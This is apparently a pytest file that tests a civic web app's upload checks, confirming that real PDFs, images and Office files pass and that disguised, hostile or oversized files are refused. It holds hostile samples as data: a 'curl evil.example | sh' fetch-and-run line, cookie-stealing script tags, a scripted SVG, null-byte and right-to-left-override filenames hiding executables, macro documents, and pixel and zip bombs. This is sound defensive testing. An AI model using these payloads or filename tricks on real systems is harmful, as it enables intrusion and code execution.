"""What is accepted and what is refused, judged by content as well as by name."""

import io
import zipfile

import pytest

from civicapp.exceptions import DomainError
from civicapp.uploads import detect, samples
from civicapp.uploads.services import check_upload
from tests.uploads.conftest import file_storage

NOT_ACCEPTED = "Files of this type are not accepted: allowed are PDF, images (PNG, JPEG, GIF, WebP)"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)


def refusal(data: bytes, name: str, kind="document") -> str:
    with pytest.raises(DomainError) as caught:
        check_upload(file_storage(data, name), kind)
    return caught.value.message


def zip_of(*entries) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize("extension", sorted(samples.SAMPLES))
def test_each_accepted_type_passes_and_is_typed_by_its_content(english, extension):
    checked = check_upload(file_storage(samples.SAMPLES[extension](), f"Report 2024.{extension}"))
    assert checked.file_type is detect.TYPES_BY_EXTENSION[extension]
    assert checked.name == f"Report 2024.{extension}"


@pytest.mark.parametrize(
    "data, name, size",
    [
        (samples.png(640, 480), "photo.png", (640, 480)),
        (samples.jpeg(33, 17), "photo.jpeg", (33, 17)),
        (samples.gif(300, 2), "photo.gif", (300, 2)),
        (samples.webp(), "photo.webp", (1, 1)),
    ],
)
def test_images_have_their_pixel_size(english, data, name, size):
    checked = check_upload(file_storage(data, name))
    assert (checked.width, checked.height) == size


def test_webp_extended_and_lossy_headers_give_their_size(english):
    riff = b"RIFF\x00\x00\x00\x00WEBP"
    extended = riff + b"VP8X" + bytes(8) + (799).to_bytes(3, "little") + (599).to_bytes(3, "little")
    lossy = riff + b"VP8 " + bytes(7) + b"\x9d\x01\x2a" + bytes([0x20, 0x03, 0x58, 0x02])
    for data in (extended, lossy):
        found = detect.detect(io.BytesIO(data))
        assert (found.file_type.key, found.width, found.height) == ("webp", 800, 600)


def test_a_jpeg_with_long_exif_data_first_still_gives_its_size(english):
    exif = b"\xff\xe1" + (60002).to_bytes(2, "big") + b"Exif\x00\x00" + bytes(59994)
    data = samples.jpeg(40, 30)
    checked = check_upload(file_storage(data[:2] + exif + data[2:], "photo.jpg"))
    assert (checked.width, checked.height) == (40, 30)


@pytest.mark.parametrize(
    "data, name, message",
    [
        (b"<script>alert(document.cookie)</script>", "report.pdf", "This file is not a real PDF."),
        (b"#!/bin/sh\ncurl evil.example | sh\n", "report.pdf", "This file is not a real PDF."),
        (
            b"%PDF-1.4\n<script>alert(1)</script>\n%%EOF\n",
            "report.pdf",
            "This file is not a real PDF.",
        ),
        (
            b"%PDF-1.4\n1 0 obj << >> endobj\n" + b" " * 2000,
            "cut.pdf",
            "This file is not a real PDF.",
        ),
        (
            b"<!DOCTYPE html><html><body>hi</body></html>",
            "photo.png",
            "This file is not a real PNG.",
        ),
        (samples.png(), "minutes.pdf", "This file is not a real PDF."),
        (samples.jpeg(), "photo.png", "This file is not a real PNG."),
        (b"MZ\x90\x00\x03" + bytes(200), "memorandum.docx", "This file is not a real DOCX."),
        (zip_of(("notes.txt", b"hello")), "memorandum.docx", "This file is not a real DOCX."),
        (samples.odt(), "memorandum.docx", "This file is not a real DOCX."),
        (samples.docx(), "budget.xlsx", "This file is not a real XLSX."),
        (SVG, "logo.png", "This file is not a real PNG."),
        (SVG, "logo.svg", NOT_ACCEPTED),
        (b"MZ\x90\x00", "setup.exe", NOT_ACCEPTED),
        (b"<html></html>", "page.html", NOT_ACCEPTED),
        (zip_of(("a.txt", b"a")), "archive.zip", NOT_ACCEPTED),
        (samples.pdf(), "no-extension", NOT_ACCEPTED),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "old.doc", "Old Microsoft Office files"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
            "old.docx",
            "Old Microsoft Office files",
        ),
        (b"", "empty.pdf", "The file is empty."),
        (samples.pdf(), "", "Choose a file to upload."),
        (samples.pdf(), "minutes.pdf\x00.png", "This file is not a real PNG."),
        (samples.pdf(), "invoice\u202efdp.exe", NOT_ACCEPTED),
    ],
)
def test_hostile_and_wrong_files_are_refused_with_the_reason(english, data, name, message):
    assert refusal(data, name).startswith(message)


def test_macro_documents_are_refused(english):
    docm = samples.docx()
    with_macros = zip_of(*_entries(docm), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))
    assert refusal(with_macros, "letter.docx") == "Documents with macros are not accepted."
    odt_macros = zip_of(*_entries(samples.odt()), ("Basic/Standard/Module1.xml", b"<x/>"))
    assert refusal(odt_macros, "letter.odt") == "Documents with macros are not accepted."


def _entries(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def test_image_fields_take_images_only(english):
    assert refusal(samples.pdf(), "poster.pdf", "image").startswith("Only images are accepted")
    assert check_upload(file_storage(samples.gif(), "poster.gif"), "image").file_type.key == "gif"


def test_an_image_with_too_many_pixels_is_refused(english):
    bomb = samples.png(1, 1)[:16] + (50_000).to_bytes(4, "big") * 2 + samples.png(1, 1)[24:]
    assert refusal(bomb, "huge.png").startswith("The image has too many pixels")


def test_a_file_over_the_limit_is_refused_without_being_read(english, app, monkeypatch):
    monkeypatch.setitem(app.config, "UPLOAD_MAX_BYTES", 1000)

    class Untouchable(io.BytesIO):
        def read(self, *args):
            raise AssertionError("the content was read")

    upload = file_storage(b"", "big.pdf")
    upload.stream = Untouchable(samples.pdf() + b" " * 1000)
    with pytest.raises(DomainError, match="The file is larger than 0.001 MB."):
        check_upload(upload)


def test_zip_bombs_are_not_unpacked(english, monkeypatch):
    many = zip_of(*((f"word/{n}.xml", b"") for n in range(30)), *_entries(samples.docx()))
    monkeypatch.setattr(detect, "MAX_ZIP_ENTRIES", 20)
    assert refusal(many, "many.docx") == "This file is not a real DOCX."
    monkeypatch.setattr(detect, "MAX_ZIP_ENTRIES", 5000)
    monkeypatch.setattr(detect, "MAX_ZIP_TOTAL", 10_000)
    inflated = zip_of(*_entries(samples.docx()), ("word/media/zeros.bin", bytes(20_000)))
    assert refusal(inflated, "inflated.docx") == "This file is not a real DOCX."


def test_content_types_are_read_only_up_to_a_bound(english):
    entries = dict(_entries(samples.docx()))
    types = entries["[Content_Types].xml"]
    padded = types.replace(b"<Default", b" " * (detect.MAX_PART_BYTES + 10) + b"<Default", 1)
    entries["[Content_Types].xml"] = padded
    assert refusal(zip_of(*entries.items()), "padded.docx") == "This file is not a real DOCX."
